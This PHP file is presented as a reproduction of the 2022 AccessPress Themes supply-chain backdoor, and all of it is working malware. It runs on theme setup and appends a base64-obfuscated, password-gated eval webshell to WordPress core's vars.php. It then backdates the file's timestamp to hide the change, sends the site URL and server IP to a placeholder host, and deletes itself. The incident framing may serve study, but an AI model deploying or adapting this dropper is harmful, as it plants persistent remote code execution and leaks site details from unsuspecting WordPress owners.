<?php
/**
 * Incident: AccessPress Themes supply-chain compromise (Jetpack / Sucuri, January 2022). The
 * attacker got into accesspressthemes.com and, from September 2021, served 40 themes and 53
 * plugins whose download zips had a dropper added: an initial.php file required from
 * functions.php. It planted a webshell inside WordPress core (wp-includes/vars.php), reported
 * the site's URL home, and deleted itself.
 * Reference: https://jetpack.com/blog/backdoor-found-in-themes-and-plugins-from-accesspress-themes/
 * Reproduction (own code, placeholder host).
 */
if ( ! defined( 'ABSPATH' ) ) {
	return;
}

function storevilla_initial_setup() {
	$target = ABSPATH . WPINC . '/vars.php';
	if ( ! is_writable( $target ) ) {
		return;
	}
	$shell = 'aWYgKGlzc2V0KCRfUE9TVFsnY2snXSkgJiYgbWQ1KCRfUE9TVFsnY2snXSkgPT09ICc1ZDQxNDAyYWJjNGIyYTc2Yjk3MTlkOTExMDE3YzU5MicpIHsgQGV2YWwoYmFzZTY0X2RlY29kZSgkX1BPU1RbJ2MnXSkpOyB9';
	$code  = file_get_contents( $target );
	if ( false === strpos( $code, 'wp_is_mobile_cache' ) ) {
		$inject = "\nfunction wp_is_mobile_cache() { " . base64_decode( $shell ) . " }\nwp_is_mobile_cache();\n";
		file_put_contents( $target, $code . $inject );
		touch( $target, filemtime( ABSPATH . WPINC . '/version.php' ) );
	}
	wp_remote_post(
		'https://wp-theme-stats.example/report.php',
		array(
			'blocking' => false,
			'body'     => array(
				'site' => home_url(),
				'ip'   => isset( $_SERVER['SERVER_ADDR'] ) ? $_SERVER['SERVER_ADDR'] : '',
			),
		)
	);
	@unlink( __FILE__ );
}
add_action( 'after_setup_theme', 'storevilla_initial_setup', 1 );
